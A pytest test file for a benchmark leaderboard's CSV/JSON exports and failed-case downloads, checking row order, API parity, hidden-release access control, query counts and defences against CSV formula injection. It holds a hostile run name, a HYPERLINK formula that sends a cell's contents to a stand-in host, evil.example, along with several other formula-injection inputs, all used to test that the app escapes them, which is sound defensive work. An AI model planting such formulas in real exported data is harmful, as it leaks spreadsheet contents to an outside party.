"""Taking data away: the leaderboard and a run's failed cases as CSV and JSON.

The leaderboard's files hold the page's rows (same filters, order and rules) and its JSON is the REST
API's answer; the failed cases of a hidden release carry no answers or explanations for anyone who
may not see them; CSV cells cannot turn into spreadsheet formulas.
"""

from __future__ import annotations

import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from benchmark.cases.models import Release
from benchmark.endpoints.models import ModelEndpoint
from benchmark.runs.models import EvaluationRun
from tests.factories import failing_scores, metric, passing_scores, release_with_cases, run_with_results, staff_user
from tests.web.conftest import read_csv

pytestmark = pytest.mark.django_db
PASS = (True, passing_scores())
WRONG = (False, failing_scores(A=metric("A", 0.0, reference="the secret place"), SC=metric("SC", 0.4)))
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ERROR_STEPS = [
    {"tool": "nearby_search", "arguments": {"q": "x"}, "observation": {"places": []}, "error_kind": "empty_result"},
    {
        "tool": "get_place",
        "arguments": {"id": "N9"},
        "observation": {"error": "no place N9"},
        "error_kind": "not_found",
    },
    {"tool": "routing", "arguments": {}, "observation": {"error": "bad"}, "error_kind": "invalid_parameter"},
]


@pytest.fixture
def release():
    return release_with_cases("take-v1", per_cell=2)


@pytest.fixture
def board(release):
    gpt = ModelEndpoint.objects.create(name="gpt", model="openai/gpt-4o")
    owner = staff_user("smoker")
    return {
        "hostile": run_with_results(release, name=HOSTILE, endpoint=gpt, results=[PASS, WRONG]),
        "plain": run_with_results(release, name="plain", results=[WRONG]),
        "self": run_with_results(release, name="+uploaded", results=[PASS], verified=False),
        "oracle": run_with_results(release, name="oracle", agent="reference"),
        "partial": run_with_results(release, name="partial", limit=5),
        "smoke": run_with_results(release, name="smoke", purpose=EvaluationRun.SMOKE, created_by=owner),
        "unlisted": _unlisted(run_with_results(release, name="unlisted")),
    }


def _unlisted(run: EvaluationRun) -> EvaluationRun:
    EvaluationRun.objects.filter(id=run.id).update(unlisted_at=run.created_at)
    return run


def page_ids(response) -> list[int]:
    return [int(i) for i in re.findall(r'<a href="/runs/(\d+)/">', response.content.decode())]


@pytest.mark.parametrize(
    "query", ["", "&sort=-name", "&verified=1", "&provider=none&since=2020-01-01", "&category=routing"]
)
def test_downloads_hold_the_pages_rows_in_its_order(client, board, query):
    page = client.get(f"/?release=take-v1{query}")
    expected = page_ids(page)
    assert board["smoke"].id not in expected and board["unlisted"].id not in expected
    rows = read_csv(client.get(f"/?release=take-v1{query}&format=csv"))
    document = client.get(f"/?release=take-v1{query}&format=json").json()
    assert [int(r["run_id"]) for r in rows] == expected
    assert [r["run_id"] for r in document["rows"]] == expected


def test_the_pages_json_is_the_apis_answer(client, board):
    for query in ("", "&q=plain", "&category=trip_design&sort=-name", "&verified=1&until=2100-01-01"):
        page = client.get(f"/?release=take-v1{query}&format=json").json()
        api = client.get(f"/api/v1/leaderboard/?release=take-v1{query}").json()
        assert page == api
    assert page["query"] == {"verified": "1", "until": "2100-01-01"}


def test_leaderboard_csv_is_an_attachment_named_after_the_release_with_a_header(client, board):
    response = client.get("/?release=take-v1&format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="lifeplanner-leaderboard-take-v1.csv"'
    header = response.content.decode().splitlines()[0].split(",")
    assert header[:4] == ["rank_best", "rank_worst", "run_id", "name"] and "routing/L1" in header
    rows = {r["name"]: r for r in read_csv(response)}
    assert rows["plain"]["overall"] == "0.0" and rows["plain"]["provider"] == ""
    assert rows["oracle"]["baseline"] == "true" and rows["oracle"]["rank_best"] == ""
    assert rows["partial"]["complete"] == "false" and rows["partial"]["overall_low"] == ""
    category = client.get("/?release=take-v1&format=json&category=routing")
    assert category["Content-Disposition"] == 'attachment; filename="lifeplanner-leaderboard-take-v1-routing.json"'


def test_csv_cells_that_would_be_formulas_stay_text(client, board):
    body = client.get("/?release=take-v1&format=csv").content.decode()
    rows = {r["run_id"]: r for r in read_csv(client.get("/?release=take-v1&format=csv"))}
    assert rows[str(board["hostile"].id)]["name"] == "'" + HOSTILE
    assert rows[str(board["self"].id)]["name"] == "'+uploaded"
    assert "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body and ',"=HYPERLINK' not in body


def test_leaderboard_json_is_stable_and_documented(client, board):
    response = client.get("/?release=take-v1&format=json")
    text = response.content.decode()
    document = json.loads(text)
    assert text == json.dumps(document, sort_keys=True, ensure_ascii=False, indent=1) + "\n"  # sorted keys
    row = next(r for r in document["rows"] if r["run_id"] == board["hostile"].id)
    assert row["name"] == HOSTILE and row["provider"] == "openai" and row["category"] is None
    assert set(row) == {
        "run_id", "name", "agent", "provider", "model", "created_at", "status", "verified", "baseline", "section",
        "description", "submitter", "complete", "n", "expected", "rank", "overall", "pass_k", "macro", "cells",
        "categories", "levels", "avg_tokens", "cost", "category",
    }  # fmt: skip
    assert row["categories"]["routing"] == 50.0 and row["created_at"].endswith("Z")


# ------------------------------------------------------------------ a run's failed cases


@pytest.fixture
def hidden():
    return release_with_cases("take-hidden", split=Release.HIDDEN, cells=[("routing", "L1"), ("routing", "L2")])


def failures(client, run, fmt="json", query=""):
    return client.get(f"/runs/{run.id}/failures.{fmt}{query}")


def test_failed_cases_download_lists_reasons_first_failing_step_and_replay(client, release):
    run = run_with_results(release, name="stepper", results=[PASS, WRONG], steps=ERROR_STEPS)
    document = failures(client, run).json()
    assert document["run"] == run.id and document["release"] == "take-v1" and document["answers_visible"] is True
    assert len(document["failures"]) == 11  # every second case
    first = document["failures"][0]
    assert first["case_id"].startswith(f"take-v1-{first['category']}-{first['level']}-")
    assert first["reasons"] and len(first["reason_labels"]) == len(first["reasons"])
    assert first["first_failing_step"] == {"number": 2, "tool": "get_place", "error_kind": "not_found"}
    assert first["replay_url"] == f"http://testserver/trajectories/{first['trajectory_id']}/"
    assert first["final_answer"] == {"answer": "x"} and "A" in first["explanations"]
    response = failures(client, run, "csv", "?level=L1")
    assert response["Content-Disposition"] == f'attachment; filename="lifeplanner-run-{run.id}-take-v1-failures.csv"'
    rows = read_csv(response)
    assert {r["level"] for r in rows} == {"L1"} and len(rows) == 4
    assert rows[0]["first_failing_step"] == "2" and rows[0]["first_failing_tool"] == "get_place"
    assert rows[0]["reasons"] and rows[0]["replay_url"].startswith("http://testserver/trajectories/")


def test_an_error_stored_as_json_text_counts_as_the_first_failing_step(client, release):
    text_error = {**ERROR_STEPS[2], "observation": '{"error": "stored as text"}'}
    run = run_with_results(release, name="texty", results=[WRONG], steps=[ERROR_STEPS[0], text_error, ERROR_STEPS[1]])
    steps = {json.dumps(f["first_failing_step"]) for f in failures(client, run).json()["failures"]}
    assert steps == {json.dumps({"error_kind": "invalid_parameter", "number": 2, "tool": "routing"})}


def test_a_failure_without_an_error_step_has_no_first_failing_step(client, release):
    run = run_with_results(release, name="quiet", results=[WRONG], steps=ERROR_STEPS[:1])
    assert {f["first_failing_step"] for f in failures(client, run).json()["failures"]} == {None}
    assert {r["first_failing_step"] for r in read_csv(failures(client, run, "csv"))} == {""}


def test_hidden_release_failures_are_for_curators_and_staff_only(client, hidden):
    """A list of failed cases is per-case results: on a hidden release, a 404 for anyone but curators and staff
    (the run's owner included); curators get it whole, with the answers and explanations."""
    owner = staff_user("runner")
    owner.is_staff = False
    owner.save()
    run = run_with_results(hidden, name="hidden run", results=[WRONG], created_by=owner, steps=ERROR_STEPS)
    for user in (None, owner):
        client.logout()
        if user:
            client.force_login(user)
        for fmt in ("json", "csv"):
            response = failures(client, run, fmt)
            body = response.content.decode()
            assert response.status_code == 404 and "shown to curators and staff only" in body
            assert "the secret place" not in body and "A = 0.0" not in body and '"answer"' not in body
    client.force_login(staff_user("curator", curator=True))
    document = failures(client, run).json()
    assert document["answers_visible"] is True and document["failures"][0]["final_answer"] == {"answer": "x"}
    assert document["failures"][0]["explanations"]["A"] == "A = 0.0"
    assert document["failures"][0]["first_failing_step"]["tool"] == "get_place"
    assert "A = 0.0" in failures(client, run, "csv").content.decode()


def test_failed_cases_download_checks_its_parameters_and_who_may_see_the_run(client, release):
    owner = staff_user("owner")
    smoke = run_with_results(release, name="smoke", results=[WRONG], purpose=EvaluationRun.SMOKE, created_by=owner)
    assert failures(client, smoke).status_code == 404  # a smoke test: only its submitter and staff
    client.force_login(owner)
    assert failures(client, smoke).status_code == 200
    bad_format = failures(client, smoke, "xlsx")
    assert (
        bad_format.status_code == 400
        and "format must be one of csv, json; got &#x27;xlsx&#x27;" in bad_format.content.decode()
    )
    bad_level = failures(client, smoke, "csv", "?level=L7")
    assert bad_level.status_code == 400 and "level must be one of L0, L1, L2" in bad_level.content.decode()


def test_run_page_links_its_failed_cases_downloads_with_its_filters(client, release):
    run = run_with_results(release, name="linked", results=[WRONG])
    html = client.get(f"/runs/{run.id}/?level=L2").content.decode()
    assert (
        f'href="/runs/{run.id}/failures.csv?level=L2"' in html
        and f'href="/runs/{run.id}/failures.json?level=L2"' in html
    )
    home = client.get("/?release=take-v1&q=linked").content.decode()
    assert 'href="?release=take-v1&amp;q=linked&amp;format=csv"' in home


def count_queries(client, url: str) -> list[str]:
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return [q["sql"] for q in captured.captured_queries]


def test_downloads_read_no_trajectory_and_their_queries_do_not_grow_with_runs(client, release):
    run_with_results(release, name="first")
    urls = ("/?release=take-v1&format=csv", "/?release=take-v1&format=json&category=routing&q=o")
    few = [count_queries(client, url) for url in urls]
    for n in range(6):
        run_with_results(release, name=f"more {n}", results=[PASS, WRONG])
    many = [count_queries(client, url) for url in urls]
    assert [len(q) for q in many] == [len(q) for q in few] and max(len(q) for q in many) <= 4
    assert not any('FROM "benchmark_trajectory"' in sql for queries in many for sql in queries)


def test_failed_cases_download_takes_the_same_few_queries_for_any_number_of_failures(client, release):
    one = run_with_results(release, name="one failure", results=[WRONG] + [PASS] * 21, steps=ERROR_STEPS)
    every = run_with_results(release, name="all fail", results=[WRONG], steps=ERROR_STEPS)
    few = count_queries(client, f"/runs/{one.id}/failures.csv")
    many = count_queries(client, f"/runs/{every.id}/failures.csv")
    assert len(few) == len(many) <= 5


@pytest.mark.parametrize(
    "text", [' =HYPERLINK("x")', "\n=1+1", "\t@SUM(A1)", "\uff1d1+1", "\u3000+1", "-2", "@x", "\r=1"]
)
def test_a_formula_behind_blanks_or_in_full_width_stays_text(text):
    from benchmark.web.files import csv_cell

    assert csv_cell(text) == "'" + text
    assert csv_cell("plain name") == "plain name" and csv_cell("a=b") == "a=b" and csv_cell(-2) == -2
